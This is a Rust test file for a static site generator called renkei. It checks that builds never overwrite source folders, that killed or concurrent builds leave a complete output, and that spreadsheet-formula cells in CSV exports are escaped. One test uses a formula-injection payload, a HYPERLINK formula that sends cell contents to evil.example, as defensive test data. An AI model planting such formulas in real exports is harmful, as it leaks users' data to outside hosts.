//! What `build` must never do: delete a folder it did not write, or leave a
//! half-written output behind, even when killed at any moment.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use crate::harness::TestSite;

/// Every file below `dir` with its bytes.
fn tree(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    walkdir::WalkDir::new(dir)
        .sort_by_file_name()
        .into_iter()
        .map(|e| e.unwrap())
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            let rel = e.path().strip_prefix(dir).unwrap().to_string_lossy();
            (rel.into_owned(), std::fs::read(e.path()).unwrap())
        })
        .collect()
}

fn build_into(site: &TestSite, out: &Path, extra: &[&str]) -> crate::harness::Run {
    site.run(&[&["build", "--out", out.to_str().unwrap()], extra].concat())
}

#[test]
fn the_site_root_is_never_an_output() {
    let site = TestSite::minimal();
    let before = tree(site.path());
    for extra in [&[][..], &["--force"]] {
        let run = build_into(&site, site.path(), extra);
        assert_eq!(run.code, Some(2), "{}", run.stderr);
        run.assert_stderr_has(&format!(
            "error: --out {} is the site's own folder: building there would replace the site's sources",
            site.path().display()
        ));
        run.assert_stderr_has("(--force does not change this)");
    }
    let parent = site.path().parent().unwrap();
    let run = build_into(&site, parent, &["--force"]);
    assert_eq!(run.code, Some(2));
    run.assert_stderr_has(&format!(
        "error: --out {} holds the site's folder: replacing it would delete the site",
        parent.display()
    ));
    assert_eq!(before, tree(site.path()));
}

#[test]
fn the_input_folders_are_never_an_output() {
    let site = TestSite::minimal();
    let before = tree(site.path());
    for (out, folder) in [
        ("content", "content"),
        ("data/adoption", "data"),
        ("themes/default/out", "themes"),
        ("static", "static"),
    ] {
        let out = site.path().join(out);
        let run = build_into(&site, &out, &["--force"]);
        assert_eq!(run.code, Some(2), "{}", run.stderr);
        run.assert_stderr_has(&format!(
            "error: --out {} is inside the site's {folder}/ folder, which renkei reads",
            out.display()
        ));
    }
    // Spelled through `..`, the folder is still the site's.
    let sneaky = site.path().join("public/../content");
    let run = build_into(&site, &sneaky, &[]);
    assert_eq!(run.code, Some(2));
    run.assert_stderr_has("is inside the site's content/ folder");
    assert_eq!(before, tree(site.path()));
}

/// A bind mount of a folder for the length of a test (mount needs root:
/// CI runs as root; elsewhere the test says it did not run).
struct BindMount(std::path::PathBuf);

impl BindMount {
    fn new(source: &Path, target: &Path) -> Option<BindMount> {
        std::fs::create_dir_all(target).unwrap();
        let mounted = std::process::Command::new("mount")
            .arg("--bind")
            .args([source, target])
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
        if !mounted {
            eprintln!("not run: `mount --bind` needs root (CI runs as root)");
        }
        mounted.then(|| BindMount(target.to_path_buf()))
    }
}

impl Drop for BindMount {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount").arg(&self.0).status();
    }
}

#[test]
fn a_second_path_to_the_site_is_still_the_site() {
    let site = TestSite::minimal();
    std::fs::create_dir(site.path().join(".git")).unwrap();
    std::fs::write(site.path().join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let before = tree(site.path());
    let elsewhere = tempfile::tempdir().unwrap();

    let alias = elsewhere.path().join("alias");
    if let Some(_mount) = BindMount::new(site.path(), &alias) {
        let run = build_into(&site, &alias, &["--force"]);
        assert_eq!(run.code, Some(2), "{}", run.stderr);
        run.assert_stderr_has("is the site's own folder");
        run.assert_stderr_has("(--force does not change this)");
        // Through the mount, the site's inputs are still its inputs.
        let run = build_into(&site, &alias.join("content"), &["--force"]);
        run.assert_stderr_has("is inside the site's content/ folder");
    }
    let above = elsewhere.path().join("above");
    if let Some(_mount) = BindMount::new(site.path().parent().unwrap(), &above) {
        let run = build_into(&site, &above, &["--force"]);
        assert_eq!(run.code, Some(2), "{}", run.stderr);
        run.assert_stderr_has("holds the site's folder");
    }
    // A symlinked parent is a second name too.
    let link = elsewhere.path().join("link");
    std::os::unix::fs::symlink(site.path().parent().unwrap(), &link).unwrap();
    let name = site.path().file_name().unwrap();
    let run = build_into(&site, &link.join(name), &["--force"]);
    assert_eq!(run.code, Some(2), "{}", run.stderr);
    run.assert_stderr_has("is the site's own folder");
    assert_eq!(before, tree(site.path()));
}

#[test]
fn a_folder_that_looks_like_a_site_is_never_taken_over() {
    let site = TestSite::minimal();
    let other = TestSite::minimal();
    let before = tree(other.path());
    let run = build_into(&site, other.path(), &["--force"]);
    assert_eq!(run.code, Some(2), "{}", run.stderr);
    run.assert_stderr_has(&format!(
        "error: --out {} holds site.toml, so it looks like a site or its sources",
        other.path().display()
    ));
    assert_eq!(before, tree(other.path()));

    let repo = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(repo.path().join("docs/.git")).unwrap();
    std::fs::write(repo.path().join("docs/readme.txt"), "mine").unwrap();
    let before = tree(repo.path());
    let run = build_into(&site, repo.path(), &["--force"]);
    assert_eq!(run.code, Some(2), "{}", run.stderr);
    run.assert_stderr_has("holds .git, so it looks like a site or its sources");
    assert_eq!(before, tree(repo.path()));

    // A folder holding a bind mount of the site is never replaced either.
    let holder = tempfile::tempdir().unwrap();
    std::fs::write(holder.path().join("notes.txt"), "mine").unwrap();
    if let Some(_mount) = BindMount::new(site.path(), &holder.path().join("inner")) {
        let run = build_into(&site, holder.path(), &["--force"]);
        assert_eq!(run.code, Some(2), "{}", run.stderr);
        run.assert_stderr_has("holds the site's folder");
        assert!(site.path().join("site.toml").is_file());
    }
}

#[test]
fn a_folder_of_unrelated_files_is_refused_without_force() {
    let site = TestSite::minimal();
    let reports = tempfile::tempdir().unwrap();
    std::fs::write(reports.path().join("budget.xlsx"), "the office's only copy").unwrap();
    std::fs::create_dir(reports.path().join("2024")).unwrap();
    std::fs::write(reports.path().join("2024/minutes.txt"), "minutes").unwrap();
    let before = tree(reports.path());
    let run = build_into(&site, reports.path(), &[]);
    assert_eq!(run.code, Some(2), "{}", run.stderr);
    run.assert_stderr_has(&format!(
        "error: {} already holds files that renkei did not write (it has no .renkei-output file): refusing to replace them; choose a new or empty folder, or pass --force to replace everything in it with the site",
        reports.path().display()
    ));
    assert_eq!(before, tree(reports.path()));

    // Taken over on request; from then on it is renkei's output.
    let run = build_into(&site, reports.path(), &["--force"]);
    assert!(run.success, "{}", run.stderr);
    assert!(!reports.path().join("budget.xlsx").exists());
    assert!(reports.path().join(".renkei-output").is_file());
    let run = build_into(&site, reports.path(), &[]);
    assert!(run.success, "{}", run.stderr);
}

#[test]
fn a_fresh_or_empty_folder_is_written_with_the_marker() {
    let site = TestSite::minimal();
    let outside = tempfile::tempdir().unwrap();
    let fresh = outside.path().join("new/site");
    let run = build_into(&site, &fresh, &[]);
    assert!(run.success, "{}", run.stderr);
    assert!(fresh.join("index.html").is_file());
    assert!(fresh.join(".renkei-output").is_file());
    let empty = outside.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    assert!(build_into(&site, &empty, &[]).success);
    assert_eq!(tree(&fresh), tree(&empty));
    let leftovers: Vec<String> = std::fs::read_dir(outside.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(leftovers.len(), 2, "{leftovers:?}");
}

/// A small deterministic pseudo-random sequence (xorshift), so a failing
/// run can be repeated exactly.
struct Dice(u64);

impl Dice {
    fn below(&mut self, n: u64) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 % n
    }
}

#[test]
fn a_build_killed_at_any_moment_leaves_a_whole_output() {
    let site = TestSite::minimal();
    let guide = |text: &str| crate::harness::GUIDE.replace("本文。", text);
    // The two complete outputs a killed build may leave.
    let mut whole = Vec::new();
    for text in ["版A。", "版B。"] {
        site.write("content/guides/start.md", &guide(text));
        site.build_ok();
        whole.push(tree(&site.path().join("public")));
    }
    let mut dice = Dice(0x5eed_1234_abcd_0042);
    for round in 0..16 {
        let text = if round % 2 == 0 { "版A。" } else { "版B。" };
        site.write("content/guides/start.md", &guide(text));
        let mut child = crate::harness::command()
            .args(["build", "--root"])
            .arg(site.path())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start renkei");
        std::thread::sleep(Duration::from_millis(dice.below(400)));
        // SIGKILL: no handler runs, as with a killed CI job.
        let _ = child.kill();
        child.wait().expect("wait for renkei");
        let now = tree(&site.path().join("public"));
        assert!(
            whole.contains(&now),
            "round {round}: the output is neither the old nor the new build ({} files)",
            now.len()
        );
    }
    // The next build cleans up after the killed ones.
    site.build_ok();
    site.assert_no_leftovers();
}

#[test]
fn open_data_cells_that_start_like_a_formula_are_quoted() {
    let site = TestSite::minimal();
    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    site.write(
        "site.toml",
        &crate::harness::SITE_TOML.replace("name = \"北部\"", "name = \"-北部\""),
    );
    site.write(
        "data/municipalities.csv",
        &crate::harness::MUNICIPALITIES.replace("442011,大分市", "442011,+大分市"),
    );
    site.write(
        "data/offices.csv",
        &crate::harness::OFFICES.replace(
            "さくら居宅介護支援事業所",
            &format!("\"{}\"", evil.replace('"', "\"\"")),
        ),
    );
    site.write(
        "data/adoption/2025-11-30.csv",
        &crate::harness::SNAPSHOT.replace("みらいケアノート", "@SUM(A1)"),
    );
    site.build_ok();
    let adopted = site.output("data/adopted-offices.csv");
    assert!(
        adopted.contains("4470100001,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",442011,居宅介護支援;介護予防支援,true,'@SUM(A1)\n"),
        "{adopted}"
    );
    assert!(
        site.output("data/groups.csv")
            .contains("\n'-北部,2025-11-30,3,2,66.7,")
    );
    assert!(
        site.output("data/municipalities.csv")
            .contains("\n442011,'+大分市,2025-11-30,2,1,50.0,")
    );
    assert!(
        site.output("data/trend.csv")
            .contains(",442011,'+大分市,2,1,50.0\n")
    );
    // Numbers stay numbers, and JSON keeps every value as it is.
    let json: serde_json::Value =
        serde_json::from_str(&site.output("data/municipalities.json")).unwrap();
    assert_eq!(json[1]["name"], "+大分市");
    assert_eq!(json[1]["rate"], 50.0);
}

/// Two small sites whose outputs differ in every page's text, each built
/// once into a folder of its own: the two whole outputs a write may leave.
fn two_sites() -> (TestSite, TestSite, [BTreeMap<String, Vec<u8>>; 2]) {
    let a = TestSite::minimal();
    let b = TestSite::minimal();
    b.write(
        "site.toml",
        &crate::harness::SITE_TOML.replace("テスト県 ポータル", "別の県 ポータル"),
    );
    for n in 0..60 {
        b.write(
            &format!("content/news/item-{n:02}.md"),
            &crate::harness::NEWS.replace("研修会を開きます。", &format!("お知らせ {n}。")),
        );
    }
    let whole = [&a, &b].map(|site| {
        let out = tempfile::tempdir().unwrap();
        let out = out.path().join("public");
        assert!(build_into(site, &out, &[]).success);
        tree(&out)
    });
    (a, b, whole)
}

fn spawn_build(site: &TestSite, out: &Path) -> std::process::Child {
    crate::harness::command()
        .args(["build", "--quiet", "--root"])
        .arg(site.path())
        .arg("--out")
        .arg(out)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start renkei")
}

/// Names inside and beside `out` that only a write in progress has.
fn staging_names(out: &Path) -> Vec<String> {
    [out, out.parent().unwrap()]
        .iter()
        .flat_map(|dir| std::fs::read_dir(dir).unwrap())
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| name.contains(".renkei-") && name != ".renkei-output")
        .collect()
}

fn two_builds_at_once_leave_one_whole_output(out: &Path) {
    let (a, b, whole) = two_sites();
    for round in 0..4 {
        let first = spawn_build(&a, out);
        let second = spawn_build(&b, out);
        for mut child in [first, second] {
            assert!(child.wait().unwrap().success(), "round {round}");
        }
        let now = tree(out);
        assert!(
            whole.contains(&now),
            "round {round}: a mix of two builds ({} files)",
            now.len()
        );
        assert_eq!(staging_names(out), Vec::<String>::new(), "round {round}");
    }
}

#[test]
fn two_builds_of_one_output_take_turns() {
    let outside = tempfile::tempdir().unwrap();
    two_builds_at_once_leave_one_whole_output(&outside.path().join("public"));
}

#[test]
fn two_builds_of_one_mount_point_take_turns() {
    let outside = tempfile::tempdir().unwrap();
    let volume = outside.path().join("volume");
    if let Some(_mount) = BindMount::new(&volume, &volume) {
        two_builds_at_once_leave_one_whole_output(&volume);
    }
}

#[test]
fn a_killed_update_of_a_mount_point_is_completed_by_the_next_build() {
    let (a, b, whole) = two_sites();
    let outside = tempfile::tempdir().unwrap();
    let volume = outside.path().join("volume");
    let Some(_mount) = BindMount::new(&volume, &volume) else {
        return;
    };
    assert!(build_into(&a, &volume, &[]).success);
    let broken = TestSite::minimal();
    broken.write("site.toml", "title = \"壊れた設定\"\n");
    let mut dice = Dice(0x0bad_cafe_f00d_0007);
    for round in 0..12 {
        let site = if round % 2 == 0 { &b } else { &a };
        let mut child = spawn_build(site, &volume);
        std::thread::sleep(Duration::from_millis(dice.below(600)));
        let _ = child.kill();
        child.wait().unwrap();
        // A build that then fails still leaves the output whole.
        let run = build_into(&broken, &volume, &[]);
        assert!(!run.success, "round {round}");
        let now = tree(&volume);
        assert!(
            whole.contains(&now),
            "round {round}: a mix of two builds ({} files)",
            now.len()
        );
        assert_eq!(
            staging_names(&volume),
            Vec::<String>::new(),
            "round {round}"
        );
    }
}
